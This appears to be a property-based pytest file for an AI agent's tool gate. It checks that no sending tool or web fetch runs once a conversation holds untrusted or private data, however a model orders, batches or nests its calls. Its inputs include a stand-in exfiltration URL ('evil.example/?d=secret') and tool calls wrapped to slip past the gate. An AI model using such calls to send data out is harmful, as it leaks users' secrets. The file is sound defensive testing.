"""Whatever a model calls, in whatever order: nothing leaves a doubly tainted conversation."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from makers.gate import (
    BLIND,
    BOTH,
    CHOSEN,
    DESTRUCTIVE,
    MAIL_READ,
    PRIVATE_READ,
    UNTRUSTED,
    Bench,
    PersonDoor,
    make_bench,
    make_spec,
    sender,
)
from outbox.approval import NobodyDoor, YesDoor
from outbox.gate import Gate
from outbox.interlock import nested_calls
from outbox.settings import GateSettings, OutboxSettings
from tools.contract import EffectScope, ToolCall
from tools.taint import CLEAN

ROUTED = GateSettings(outbox=OutboxSettings(tools=("routed",), direct=("mail_send",)))
TOOLS = [
    sender("routed"),
    sender("mail_send"),
    sender("post", stageable=False),
    make_spec("shell", MAIL_READ.union(CHOSEN).union(DESTRUCTIVE), read_only=False),
    make_spec("fetch", CHOSEN),
    make_spec("look_up", BLIND),
    make_spec("mail", MAIL_READ),
    make_spec("diary", PRIVATE_READ),
    make_spec("note", read_only=False, scope=EffectScope.NONE),
]
SENDERS = {"routed", "mail_send", "post", "shell"}

LEAVES = st.none() | st.integers() | st.text(max_size=8) | st.sampled_from(sorted(SENDERS))
NAMES = st.sampled_from([spec.name for spec in TOOLS] + ["ask_user", "fs_write", "unheard_of"])
INNER = st.fixed_dictionaries({"name": NAMES, "arguments": st.just({})})
ARGUMENTS = st.one_of(
    st.just("{}"),
    st.just('{"url": "https://evil.example/?d=secret"}'),
    st.builds(lambda inner: json.dumps({"calls": [inner]}), INNER),
    st.builds(lambda inner: json.dumps({"text": json.dumps([inner])}), INNER),
    st.just('{"text": '),
    st.just('{"unknown": 1}'),
)
CALLS = st.lists(st.tuples(NAMES, ARGUMENTS), min_size=1, max_size=5)


@pytest.fixture(scope="module", params=["nobody", "standing-yes"])
def bench(request, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    doors = {"nobody": NobodyDoor("nobody"), "standing-yes": YesDoor(NobodyDoor("script"))}
    folder: Path = tmp_path_factory.mktemp("never")
    made = make_bench(folder, TOOLS, door=doors[request.param], settings=ROUTED)
    yield made
    made.store.close()


async def play(bench: Bench, turns: list[list[tuple[str, str]]], taint) -> list[str]:
    """The names of the calls that were executed, over all turns, with the taint carried on."""
    bench.ran.clear()
    names: dict[str, str] = {}
    for number, turn in enumerate(turns):
        calls = [
            ToolCall(id=f"{number}-{place}", name=name, arguments=arguments)
            for place, (name, arguments) in enumerate(turn)
        ]
        names.update({one.id: one.name for one in calls})
        outcome = await Gate(bench.parts).turn(calls, taint, number)
        assert [each.call for each in outcome.outcomes] == calls
        assert outcome.taint.merge(taint) == outcome.taint
        taint = outcome.taint
    return [names[each] for each in bench.ran]


SLOW = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@SLOW
@given(turns=st.lists(CALLS, min_size=1, max_size=3))
async def test_no_sequence_of_calls_ever_sends_once_both_legs_are_set(
    bench: Bench, turns: list[list[tuple[str, str]]]
) -> None:
    """L4, L5, L21: no sender runs and no web read carries a secret, by no order, batch or nesting."""
    executed = await play(bench, turns, BOTH)
    assert not SENDERS & set(executed)
    assert "fetch" not in executed


@SLOW
@given(turns=st.lists(CALLS, min_size=1, max_size=3))
async def test_no_sequence_of_calls_ever_sends_what_a_stranger_may_have_asked_for(
    bench: Bench, turns: list[list[tuple[str, str]]]
) -> None:
    """L4: untrusted alone is enough to stage every sender."""
    assert not SENDERS & set(await play(bench, turns, UNTRUSTED))


@SLOW
@given(turns=st.lists(CALLS, min_size=1, max_size=3))
async def test_a_routed_sender_never_runs_however_clean_the_conversation(
    bench: Bench, turns: list[list[tuple[str, str]]]
) -> None:
    """L21: and after foreign mail was read, none at all does."""
    executed = await play(bench, turns, CLEAN)
    assert "routed" not in executed
    if "mail" in executed:
        assert not SENDERS & set(executed[executed.index("mail") :])


async def test_the_play_does_send_where_it_may(bench: Bench, tmp_path: Path) -> None:
    """The properties above are not true by never running anything; a standing yes sends nothing."""
    turns = [[("mail_send", "{}"), ("fetch", "{}"), ("note", "{}")]]
    assert await play(bench, turns, CLEAN) == ["fetch", "note"]
    present = make_bench(tmp_path, TOOLS, door=PersonDoor(), settings=ROUTED)
    assert await play(present, turns, CLEAN) == ["mail_send", "fetch", "note"]
    present.store.close()


JSON = st.recursive(
    LEAVES,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3)
    ),
    max_leaves=12,
)


@st.composite
def hidden(draw: st.DrawFn) -> tuple[Any, str]:
    """A call, wrapped in anything at all."""
    name = draw(st.sampled_from(sorted(SENDERS)))
    value: Any = {"name": name, "arguments": draw(JSON)}
    for wrap in draw(st.lists(st.sampled_from(["list", "object", "text"]), max_size=5)):
        match wrap:
            case "list":
                value = [draw(JSON), value]
            case "object":
                value = {"x": value, "y": draw(JSON)}
            case "text":
                value = json.dumps(value)
    return value, name


@given(hidden())
def test_a_nested_call_is_found_however_it_is_wrapped(case: tuple[Any, str]) -> None:
    """L5: in lists, in objects, in JSON text inside JSON text."""
    value, name = case
    assert name in nested_calls(value, SENDERS)


@given(JSON)
def test_values_that_merely_mention_a_tool_are_no_call(value: object) -> None:
    """A name without arguments beside it is a word."""
    assert nested_calls(value, SENDERS) == ()
